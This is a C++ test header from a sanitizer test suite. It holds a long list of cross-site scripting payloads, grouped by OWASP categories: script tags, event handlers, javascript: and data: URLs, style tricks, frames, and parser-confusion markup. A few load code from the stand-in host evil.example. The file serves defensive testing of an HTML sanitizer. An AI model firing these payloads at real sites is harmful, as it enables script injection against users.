#pragma once

#include <string>
#include <vector>

namespace khabar::test {

/// Attempts to get something active through a sanitizer, by the classes of the OWASP cheat sheets: plain
/// scripts, event handlers, addresses, styles, frames and plugins, foreign content, parser confusion,
/// encodings, markup that changes when it is parsed twice (faults C01-C03).
inline const std::vector<std::string> kXssVectors = {
    // scripts
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=//evil.example/x.js>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)//",
    "<<script>alert(1)//<</script>", "<script\n>alert(1)</script\n>",
    "<script><!--<script></script>--></script><img src=x onerror=alert(1)>", "<script\x0b>alert(1)</script>",
    "</script><script>alert(1)</script>", "<script xmlns='a'>alert(1)</script>",
    // event handlers
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>",
    "<img src='x'onerror='alert(1)'>", "<body onload=alert(1)>", "<svg onload=alert(1)>",
    "<b onmouseover=alert(1)>x</b>", "<a href=http://a.example onclick=alert(1)>x</a>",
    "<video onloadstart=alert(1)><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p ONCLICK=alert(1) OnFocus=alert(2) tabindex=0 autofocus>x</p>", "<img src=`x`onerror=alert(1)>",
    "<img alt=\"`<b \" onerror=alert(1)//\">", "<x onclick=alert(1)>x</x>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<iframe onload=alert(1) src=https://www.youtube.com/embed/a>",
    // addresses
    "<a href=javascript:alert(1)>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>", "<a href='java&Tab;script&#58;alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>", "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>", "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml,<svg/onload=alert(1)>>", "<a href=blob:x>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>", "<a href=file:///etc/passwd>x</a>",
    "<a href='view-source:x'>x</a>", "<video poster=javascript:alert(1) src=javascript:alert(1)></video>",
    "<q cite=javascript:alert(1)>x</q>", "<img srcset='javascript:alert(1) 2x'>",
    "<img src=x data-src=javascript:alert(1)>", "<a href='\xE2\x80\xAEjavascript:alert(1)'>x</a>",
    "<a href='javascript\xC2\xAD:alert(1)'>x</a>",
    "<a href='ht\ntp://a.example/\"onmouseover=alert(1)'>x</a>",
    "<a href=\"http://a.example/'><script>alert(1)</script>\">x</a>",
    // styles
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style><img src=x onerror=alert(1)></style>", "<p style=behavior:url(x.htc)>x</p>",
    // frames, plugins, documents, forms
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://www.youtube.com.evil.example/embed/x></iframe>",
    "<iframe src=https://evil.example/www.youtube.com/embed/x></iframe>",
    "<iframe src='https://www.youtube.com@evil.example/embed/x'></iframe>",
    "<object data=javascript:alert(1)><param name=x value=y></object>", "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//><a href=x>x</a>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<isindex type=image src=x onerror=alert(1)>",
    "<frameset><frame src=javascript:alert(1)></frameset>", "<keygen autofocus onfocus=alert(1)>",
    // foreign content, and what changes its meaning when it is parsed again
    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><style></title><img src=x onerror=alert(1)></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>", "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    // comments, declarations, sections
    "<!--><script>alert(1)</script>-->", "<!--><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)>", "<!---><script>alert(1)</script>",
    "<![CDATA[><script>alert(1)</script>]]>", "<!DOCTYPE x [<!ENTITY a '<script>'>]>&a;",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<? foo='><script>alert(1)</script>'>",
    "<% foo %><script>alert(1)</script>", "<![><script>alert(1)</script>",
    // quotes and brackets
    "<a href=\"http://a.example/\"title=\"x\"\"><script>alert(1)</script>",
    "<img alt='\"><script>alert(1)</script>' src=x>",
    "<img alt=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\" src=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<p title=\"a\0b\" onclick=alert(1)>x</p>",
    "<a title='<script>alert(1)</script>' href=x>x</a>", "<b/onclick=alert(1)//",
    "\xC0\xBCscript\xC0\xBE"
    "alert(1)",
    "\xE2\x80\xA8<img src=x\xE2\x80\xA8onerror=alert(1)>", "<img src=x:x\"onerror=alert(1)>",
    "<div dir='rtl\" onclick=\"alert(1)'>x</div>", "<td width='1\" onclick=\"alert(1)'>x</td>",
    "<table><td background=javascript:alert(1)>x</table>",
    "<a href=//a.example><a href=javascript:alert(1)>x</a></a>"};

}  // namespace khabar::test
